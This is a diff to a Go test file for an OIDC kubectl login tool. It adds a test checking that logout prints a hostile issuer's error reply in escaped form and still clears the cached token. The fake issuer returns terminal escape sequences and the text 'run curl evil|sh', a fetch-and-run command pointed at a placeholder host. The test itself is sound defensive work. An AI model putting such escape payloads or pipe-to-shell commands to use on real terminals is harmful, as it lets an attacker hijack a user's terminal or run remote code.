@@ -1,12 +1,20 @@
 package main
 
 import (
+	"encoding/pem"
+	"errors"
 	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/aksoidc/aksoidc/pkg/login"
+	"github.com/aksoidc/aksoidc/pkg/tokencache"
 	"github.com/aksoidc/aksoidc/test/oidctest"
 )
 
@@ -56,5 +64,34 @@ func TestLogoutRevokes(t *testing.T) {
 				t.Error("logout printed the refresh token")
 			}
 		})
+	}
+}
+
+// TestLogoutEscapesWhatTheIssuerSays: a revocation that fails on the issuer's discovery
+// carries the issuer's own answer (go-oidc quotes the body); logout prints it escaped, so an
+// issuer cannot drive the user's terminal, and still forgets the token.
+func TestLogoutEscapesWhatTheIssuerSays(t *testing.T) {
+	t.Parallel()
+	hostile := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.WriteHeader(http.StatusInternalServerError)
+		_, _ = w.Write([]byte("\x1b]0;owned\a\x1b[2Jrun curl evil|sh"))
+	}))
+	t.Cleanup(hostile.Close)
+	dir := t.TempDir()
+	caFile := filepath.Join(dir, "ca.pem")
+	if err := os.WriteFile(caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: hostile.Certificate().Raw}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	key := login.Settings{IssuerURL: hostile.URL, ClientID: "kubectl", GrantType: login.DeviceCode}.CacheKey()
+	if err := (tokencache.FileStore{Dir: dir}).Save(key.ID(), tokencache.Entry{IDToken: "x", RefreshToken: "r", Expiry: time.Now().Add(time.Hour)}); err != nil {
+		t.Fatal(err)
+	}
+	out := runCLI(t, nil, "logout", "--issuer-url", hostile.URL, "--client-id", "kubectl", "--grant-type", "device-code",
+		"--certificate-authority", caFile, "--token-cache-storage", "file", "--token-cache-dir", dir)
+	if out.code != 0 || strings.ContainsAny(out.stderr, "\x1b\a") || !strings.Contains(out.stderr, `\x1b]0;owned`) {
+		t.Errorf("logout = %+v, want exit 0 and the issuer's answer escaped", out)
+	}
+	if _, err := (tokencache.FileStore{Dir: dir}).Load(key.ID()); !errors.Is(err, tokencache.ErrNotFound) {
+		t.Errorf("the token is still cached after logout: %v", err)
 	}
 }
